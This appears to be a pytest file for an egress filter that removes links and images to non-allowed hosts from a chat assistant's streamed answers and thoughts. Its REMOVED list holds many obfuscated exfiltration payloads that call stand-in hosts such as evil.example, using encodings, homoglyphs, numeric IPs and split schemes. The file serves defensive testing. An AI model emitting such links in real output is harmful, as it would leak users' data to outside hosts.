"""No address leads out of an answer but to the hosts that were named, however it is written and wherever it is cut."""

from typing import Any

import pytest

from chat.agents.filters.base import whole
from chat.agents.filters.egress import EgressFilter
from tenants.models import AssistantVersion
from tests.conftest import Browse
from tests.support.browsing import text_of
from tests.support.cast import Cast, assistant_of
from tests.support.provider import Provider, Think

ALLOWED = ["acme.example", "*.cdn.example"]

KEPT = [
    "[Tents](https://acme.example/tents?x=1) and ![](https://img.cdn.example/a.png)",
    "https://ACME.example:8443/a, https://acme.example./b",
    "见 https://acme.example/a。 好",
    "12:30, a/b, 1//2, C:\\temp, and://, // a comment",
    "```\nx = a // b\n```",
    "[here](/tents) or [there](#part), www, e.g. mail@acme.example",
    "&amp; and &lt;b&gt; \\* \\[",
    "and//or, (a+b)//2, x[0]//2, n //2, x //= 2, 见//注",
    "//NOTE //NOTE(joe): //step1 //nolint:all //@ts-ignore //#region //comment. //注释，说明 //注释。 //! ///",
    "a\tb\tc",
    "![x](//acme.example/a) ![x](\\\\img.cdn.example/a) <img src=//acme.example:80/a>",
]
REMOVED = [
    "![x](https://evil.example/?d=SECRET)",
    "[x](https://evil.example/?d=SECRET)",
    "[x](HTTPS://EVIL.EXAMPLE/?d=SECRET)",
    "<https://evil.example/SECRET>",
    "https://evil.example/SECRET",
    "www.evil.example/SECRET",
    "![x](//evil.example/SECRET)",
    "![x](\\\\evil.example/SECRET)",
    "![x](https:/evil.example/SECRET)",
    "![x](https:evil.example/SECRET)",
    "![x](https:\\\\evil.example/SECRET)",
    "![x](https&#58;//evil.example/SECRET)",
    "![x](&#104;ttps://evil.example/SECRET)",
    "![x](https\\://evil.example/SECRET)",
    "![x](<https://evil.example/SECRET>)",
    "![x](<ht\ttps://evil.example/SECRET>)",
    "![x](https://acme.example@evil.example/SECRET)",
    "![x](https://evil.example\\@acme.example/SECRET)",
    "![x](https://acme.example\\@evil.example/SECRET)",
    "见![x](https://acme.example。evil.example/SECRET)好",
    "![" + "x" * 5_000 + "](https://evil.example/SECRET)",
    "![x](https://evil.example#@acme.example/SECRET)",
    "![x](https://acme.example.evil.example/SECRET)",
    "![x](https://cdn.example/SECRET)",
    "![x](https://evilcdn.example/SECRET)",
    "![x](https://%65vil.example/SECRET)",
    "![x](https://[::ffff:1.2.3.4]/SECRET)",
    "![x](ftp://evil.example/SECRET)",
    "![x][1]\n\n[1]: https://evil.example/SECRET",
    '<img src="https://evil.example/SECRET">',
    "<img src=//evil.example/SECRET>",
    "![x](//evil%2eexample/SECRET)",
    "![x](//evil。example/SECRET)",
    "![x](//evil．example/SECRET)",
    "![x](//evil&period;example/SECRET)",
    "![x](//evil/SECRET)",
    "![x](//16843009/SECRET)",
    "![x](//0x01010101/SECRET)",
    "![x](//１６８４３００９/SECRET)",
    "![x](/\\evil%2eexample/SECRET)",
    "![x](\\//evil%2eexample/SECRET)",
    "![x](/&#47;evil%2eexample/SECRET)",
    "![x](&#32;//evil%2eexample/SECRET)",
    "![x]( //evil%2eexample/SECRET)",
    "![x](\n//evil%2eexample/SECRET)",
    "![x](</\t/evil%2eexample/SECRET>)",
    "![x](<ht\ttps:evil.example/SECRET>)",
    "![x](<ht" + "\t" * 200 + "tps:evil.example/SECRET>)",
    "![x](//ⓔⓥⓘⓛ.ⓔⓧ/SECRET)",
    "![x](https://ⓔⓥⓘⓛ.ⓔⓧ/SECRET)",
    "见![x](//evil%2eexample/SECRET)好",
    "[x]: //evil%2eexample/SECRET",
    "[x]://evil%2eexample/SECRET",
    "[x]: //joe@16843009/SECRET",
    "[x]: //16843009:80/SECRET",
    "[x]: //1.1/SECRET",
    "[x]: //evil。example/SECRET",
    "<img src=//evil%2eexample/SECRET>",
    "<img src='//evil%2eexample/SECRET'>",
    '<img srcset="/a 1x,//evil%2eexample/SECRET 2x">',
    "https://acme.example/https://evil.example/SECRET https://evil.example/SECRET",
    "https://evil.example/" + "SECRET" * 2_000,
    "![x](\n//evilhost/SECRET)",
    "![x](  \n  //evilhost/SECRET)",
    "![x]( //evilhost?SECRET)",
    "![x](\u00a0//evilhost/SECRET)",
    "![x](\ufeff//evilhost/SECRET)",
    "[x]:\n//evilhost/SECRET",
    "<img src= //evilhost/SECRET>",
    "<img src =\n'//evilhost/SECRET'>",
    "![x](https://evilhost/SECRET)",
    "![x](https://[::1]/SECRET)",
    "![x](https://acme.example%2eevil.example/SECRET)",
    "![x](https://acme.example:443@evil.example/SECRET)",
]


def cut(text: str, size: int) -> str:
    made = EgressFilter(ALLOWED)
    return "".join(made.feed(text[at : at + size]) for at in range(0, len(text), size)) + made.finish()


@pytest.mark.parametrize("text", KEPT)
def test_what_is_allowed_stays_as_it_is(text: str) -> None:
    assert {cut(text, size) for size in (1, 2, 7, 1_000)} == {text}


@pytest.mark.parametrize("text", REMOVED)
def test_what_leads_elsewhere_is_removed_wherever_it_is_cut(text: str) -> None:
    for size in (1, 2, 3, 5, 100_000):
        result = cut(f"Look: {text} there.", size)
        left = result.replace("https://acme.example/https://evil.example/SECRET", "")  # of a host that is allowed
        assert "evil" not in left.lower()
        assert "SECRET" not in left
        assert result.startswith("Look: ")
        assert result.endswith(" there.")


def test_no_host_at_all_may_be_named() -> None:
    assert whole(EgressFilter([]), "See https://acme.example/a.") == "See (link removed)"


def test_an_answer_carries_nothing_away(browse: Browse, cast: Cast, provider: Provider) -> None:
    assistant_of(
        cast.acme,
        "guarded",
        provider=AssistantVersion.Provider.OPENAI_COMPATIBLE,
        guardrails={"output": {"hosts": ["acme.example"]}},
    )
    provider.will_say("See ![map](htt", "ps://evil.exam", "ple/?d=SECRET) and [us](https://acme.exa", "mple/tents).")
    dave = browse().open("guarded")
    turn = dave.say("Where?")
    wanted = "See ![map](about:blank) and [us](https://acme.example/tents)."
    assert text_of(turn.frames) == turn.text == wanted
    stored: list[Any] = dave.items(turn.thread_id)
    assert stored[-1]["content"][0]["text"] == wanted


@pytest.mark.parametrize("size", [3, 200])
def test_a_thought_carries_nothing_away(browse: Browse, cast: Cast, provider: Provider, size: int) -> None:
    thought = "Look at ![map](https://evil.example/?d=SECRET) first. " * 5
    pieces = tuple(thought[at : at + size] for at in range(0, len(thought), size))
    assistant_of(
        cast.acme,
        "guarded",
        provider=AssistantVersion.Provider.OPENAI_COMPATIBLE,
        guardrails={"output": {"hosts": ["acme.example"]}},
    )
    provider.will_say(Think(pieces), "Here.")
    dave = browse().open("guarded")
    turn = dave.say("Where?")
    assert [item["type"] for item in dave.items(turn.thread_id)] == ["user_message", "workflow", "assistant_message"]
    for seen in (str(turn.frames), str(dave.items(turn.thread_id))):
        assert "evil" not in seen
        assert "SECRET" not in seen
